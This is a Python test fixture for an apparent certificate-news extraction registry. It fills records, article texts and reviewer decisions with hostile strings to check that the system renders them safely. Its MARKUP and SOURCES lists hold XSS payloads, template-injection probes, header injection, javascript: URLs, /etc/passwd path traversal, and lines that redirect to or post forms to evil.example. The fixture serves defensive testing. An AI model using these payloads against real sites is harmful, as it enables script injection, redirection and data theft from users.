"""Articles, names and decisions that want to be more than text: all that could become markup, a script, or a lie to the eye.

Each tries to make an element with the attribute ``data-owned`` or an element ``x-owned``, to set ``window.owned``, to
show a dialog, or to be worked out: ``owned{{7*7}}`` must stand there as it is.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

from registered import AT, LINKER, record, write
from sqlalchemy import Engine, select

from extractor.cli import main
from extractor.registry import tables
from extractor.registry.database import opened, writing
from extractor.registry.decisions import decide, undo
from extractor.registry.log import Author

MARKUP = (
    "<script data-owned>window.owned=1;alert(1)</script>",
    "</script><script data-owned>window.owned=1</script>",
    "<img data-owned src=x onerror=window.owned=1>",
    "\"><svg data-owned onload=window.owned=1>",
    "' onmouseover='window.owned=1' data-owned='",
    "\" autofocus onfocus=window.owned=1 data-owned=\"",
    "` onfocus=window.owned=1 data-owned=`",
    " onpointerenter=window.owned=1 data-owned ",
    "</title></textarea></style></template></noscript><x-owned>",
    "--><x-owned><!--",
    "]]><x-owned>",
    "<svg data-owned><a xlink:href='javascript:window.owned=1'><text y=20>x</text></a></svg>",
    "<iframe data-owned srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<base data-owned href='http://evil.example/'>",
    "<meta data-owned http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form data-owned action=http://evil.example/><input name=token>",
    "<details data-owned open ontoggle=window.owned=1>",
    "<style data-owned>*{background:url(http://evil.example/)}</style>",
    "<a data-owned href=javascript:window.owned=1>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img data-owned title='--&gt;&lt;img src=x onerror=window.owned=1&gt;'>",
    "<svg></p><style><a id='</style><img data-owned src=x onerror=window.owned=1>'>",
    "<noscript><p title='</noscript><img data-owned src=x onerror=window.owned=1>'>",
    "&lt;script data-owned&gt;window.owned=1&lt;/script&gt;",
    "&#60;script data-owned&#62;window.owned=1&#60;/script&#62;",
    "&amp;lt;img data-owned src=x onerror=window.owned=1&amp;gt;",
    "\\u003cscript data-owned\\u003ewindow.owned=1\\u003c/script\\u003e",
    "%3Cscript%20data-owned%3Ewindow.owned=1%3C/script%3E",
    "+ADw-script data-owned+AD4-window.owned=1+ADw-/script+AD4-",
    "¼script data-owned¾window.owned=1¼/script¾",
    "\uff1cscript data-owned\uff1ewindow.owned=1\uff1c/script\uff1e",
    "<scr\x00ipt data-owned>window.owned=1</scr\x00ipt>",
    "<x-owned\x0conload=window.owned=1>",
    "owned{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ config }}{{ self.__init__.__globals__ }}{{ request.app.state.doors.keys.made() }}",
    "{# {% raw %} #}{% extends 'left.html' %}",
    "javascript:window.owned=1//",
    "data:text/html,<script data-owned>window.owned=1</script>",
    "\u202eelpmaxE\u202c \u2066\u2067\u2068x\u2069 \u202a\u202b\u202d",
    "__proto__ constructor prototype toString",
    "\r\nSet-Cookie: owned=1\r\n\r\n<script data-owned>window.owned=1</script>",
)  # fmt: skip

SOURCES = (
    "javascript:window.owned=1",
    "JaVaScRiPt:window.owned=1",
    " javascript:window.owned=1",
    "java\tscript:window.owned=1",
    "\x01javascript:window.owned=1",
    "javascript://evil.example/%0awindow.owned=1",
    "data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+",
    "vbscript:owned",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\",
    "http:\\\\evil.example\\",
    "http://",
    "http:evil",
    "https://user:secret@evil.example/",
    "http://evil.example/\" onclick=window.owned=1 data-owned=\"",
    "http://evil.example/'onclick='window.owned=1",
    "http://evil.example/<x-owned>",
    "http://evil.example:port/",
    "http://[::1/",
    "blob:http://127.0.0.1/owned",
    "filesystem:http://127.0.0.1/owned",
    "../../../../etc/passwd",
    "news/owned.zip!/../../x",
    "https://example.org/story?id=1&x=<y>",
    "https://example.org/story?id=1&x=y",
)  # fmt: skip


LONG = "<img data-owned src=x onerror=window.owned=1>{{7*7}} " * 20_000  # a megabyte


def records() -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Records whose every text is hostile, and the lines of their articles with their texts."""
    made, articles = [], []
    for number, evil in enumerate((*MARKUP, *SOURCES, LONG)):
        holder, body = f"Owned {number} {evil[:30_000]} Ltd", f"Body {evil[:1000]}"
        scope = evil[:1000]
        text = f"{holder} has received ISO 9001:2015 from {body} on 2024-05-02 for {scope}. {evil}\n"
        start = {part: text.index(part) for part in (holder, "ISO 9001:2015", body, "2024-05-02", f"{scope}. ")}

        def part(words: str, start: dict[str, int] = start, text: str = text) -> dict[str, Any]:
            at = start.get(words, start.get(f"{words}. ", 0))
            return {"text": words, "span": [at, at + len(words)]}

        source = evil if evil in SOURCES else SOURCES[number % len(SOURCES)]
        one = record(
            holder, article=text, title=f"Title {evil}", source=f"{source}#{number}" if number % 2 else source,
            published=None, language=("en", "vi", "mr")[number % 3], confidence=0.5 + number % 40 / 100,
        )  # fmt: skip
        one["organization"] |= part(holder)
        one["standard"] |= part("ISO 9001:2015")
        one["certification_body"] = {"name": body, "id": None, **part(body)}
        one["dates"]["issued"] = {"edtf": "2024-05-02", **part("2024-05-02")}
        one["certificate_number"] = part(scope)
        one["scope"] = part(scope)
        one["rules"] = [f"en.awarded.{scope}"]
        one["flags"] = ["year-not-stated"]
        made.append(one)
        articles.append(
            {
                "schema": "certwire/article/1", "id": hashlib.sha256(text.encode()).hexdigest(), "source": one["article"]["source"],
                "media_type": "text/plain", "language": one["article"]["language"], "language_confidence": 0.9,
                "title": one["article"]["title"], "published": None, "characters": len(text), "records": 1,
                "status": "extracted", "error": None, "text": text,
            }
        )  # fmt: skip
    return made, articles


def registered(folder: Path) -> Engine:
    """A registry of all that, with decisions by hostile reviewers for hostile reasons."""
    path = folder / "hostile.sqlite"
    made, articles = records()
    lines = write(folder / "hostile.jsonl", *made)
    texts = write(folder / "articles.jsonl", *(json.dumps(article) for article in articles))
    assert main(["load", str(lines), str(texts), "--registry", str(path)]) == 0
    engine = opened(str(path), pooled=True)
    with writing(engine) as connection:
        claims = connection.execute(select(tables.claim.c.id).order_by(tables.claim.c.id)).scalars().all()
        for number, (claim, evil) in enumerate(zip(claims, MARKUP[:12], strict=False)):
            author = Author(f"Reviewer {evil}"[:80].replace("\x00", ""), AT, f"Because {evil}")
            verdict = ("accept", "reject", "correct")[number % 3]
            fields = {"scope": f"Scope {evil}", "organization": f"Owned {evil}"} if verdict == "correct" else None
            decided = decide(connection, LINKER, author, "claim", claim, verdict, fields)
            if number % 4 == 3:
                undo(connection, LINKER, author, decided.id)
    return engine
